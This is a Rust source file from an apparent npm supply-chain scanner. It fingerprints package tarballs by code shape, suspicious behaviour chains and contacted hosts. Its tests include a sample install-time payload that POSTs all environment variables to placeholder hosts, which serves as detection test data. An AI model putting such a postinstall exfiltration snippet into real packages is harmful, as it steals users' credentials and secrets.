//! What ties one release to another: the shape of its code, what it does, whom it speaks to.
//! It is made from the tarball's bytes alone, and compares nothing.
use std::collections::BTreeSet;

use cleanbill_js::{
    Budget, Chain, Context, HostClass, Package as JsPackage, Shape, SourceFile, analyse, shape,
};
use cleanbill_model::Level;
use cleanbill_npm::tarball::{Limits, unpack};
use serde::{Deserialize, Serialize};

use crate::source::sources;

/// Largest source whose shape is taken, in bytes; the largest worm bundles have some 12 MB.
const MAX_SOURCE_BYTES: usize = 32 * 1024 * 1024;
/// Most bytes of code whose shape is taken of one release.
const MAX_TOTAL_BYTES: usize = 96 * 1024 * 1024;
/// Most hosts and chains kept.
const MAX_KEPT: usize = 1_000;

/// What ties.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Traits {
    /// The shape of all its code together.
    pub shape: Shape,
    /// What it does, without the places and names that differ from release to release.
    pub chains: Vec<String>,
    /// Hosts it speaks to, those decoded on the way among them; no platform that everybody uses.
    pub hosts: Vec<String>,
}

/// Reads a tarball. Pure and bounded; it wants the large stack that the analysis asks for.
#[must_use]
pub fn read_traits(bytes: &[u8]) -> Traits {
    of_files(sources(unpack(bytes, &Limits::default()).files))
}

/// The same from files in memory.
#[must_use]
pub fn of_files(files: Vec<SourceFile>) -> Traits {
    let (mut trees, mut runs) = (BTreeSet::new(), BTreeSet::new());
    let mut total = 0_usize;
    for file in files.iter().filter(|file| is_code(&file.path)) {
        total = total.saturating_add(file.bytes.len());
        if file.bytes.len() > MAX_SOURCE_BYTES || total > MAX_TOTAL_BYTES {
            continue;
        }
        let Some(one) = std::str::from_utf8(&file.bytes)
            .ok()
            .and_then(|text| shape(text, &file.path))
        else {
            continue;
        };
        trees.extend(one.trees);
        runs.extend(one.runs);
    }
    let analysis = analyse(&JsPackage { files }, &Context::default(), &Budget::default());
    let chains: BTreeSet<String> = analysis
        .chains
        .iter()
        .filter(|chain| chain.level >= Level::Warn)
        .map(canonical)
        .collect();
    let hosts: BTreeSet<String> = analysis
        .destinations
        .iter()
        .filter(|destination| destination.class != HostClass::Platform && destination.host.contains('.'))
        .map(|destination| destination.host.clone())
        .collect();
    Traits {
        shape: Shape {
            trees: trees.into_iter().collect(),
            runs: runs.into_iter().collect(),
        },
        chains: chains.into_iter().take(MAX_KEPT).collect(),
        hosts: hosts.into_iter().take(MAX_KEPT).collect(),
    }
}

fn is_code(path: &str) -> bool {
    [".js", ".cjs", ".mjs", ".jsx", ".ts", ".cts", ".mts", ".tsx"]
        .iter()
        .any(|ending| path.ends_with(ending))
        && !path.ends_with(".d.ts")
}

/// A chain without its host, which is an indicator and counts as one.
fn canonical(chain: &Chain) -> String {
    let sources: BTreeSet<String> = chain.sources.iter().map(|source| format!("{source:?}")).collect();
    let sources: Vec<String> = sources.into_iter().collect();
    let when = if chain.trigger.is_install() {
        "install"
    } else {
        "import"
    };
    let class = chain
        .host_class
        .map(|class| format!("{class:?}").to_lowercase())
        .unwrap_or_else(|| "nowhere".to_owned());
    format!(
        "{} at {when}: {} to {class}",
        chain.id,
        sources.join(" and ").to_lowercase()
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn files(text: &str) -> Vec<SourceFile> {
        let file = |path: &str, text: &str| SourceFile {
            path: path.to_owned(),
            bytes: text.as_bytes().into(),
        };
        vec![
            file(
                "package.json",
                r#"{"name": "left", "version": "1.0.0", "scripts": {"postinstall": "node index.js"}}"#,
            ),
            file("index.js", text),
        ]
    }

    fn read(text: &str) -> Traits {
        let files = files(text);
        std::thread::Builder::new()
            .stack_size(cleanbill_js::REQUIRED_STACK_BYTES)
            .spawn(|| of_files(files))
            .unwrap()
            .join()
            .unwrap()
    }

    #[test]
    fn chains_are_told_without_the_host_and_hosts_beside_them() {
        let send = |host: &str| {
            format!(
                "const https = require('https'); const r = https.request({{ hostname: '{host}', method: 'POST', path: '/in' }}); r.write(JSON.stringify(process.env)); r.end();"
            )
        };
        let (one, other) = (read(&send("a.files.example")), read(&send("b.other.example")));
        assert!(!one.chains.is_empty(), "{one:?}");
        assert_eq!((&one.chains, &one.shape), (&other.chains, &other.shape));
        assert_eq!(one.hosts, ["a.files.example"]);
        assert!(one.chains.iter().all(|chain| !chain.contains("example")));
    }

    #[test]
    fn what_is_no_code_has_no_shape() {
        let traits = read("this is {{{ no code");
        assert!(traits.shape.trees.is_empty() && traits.chains.is_empty());
    }
}
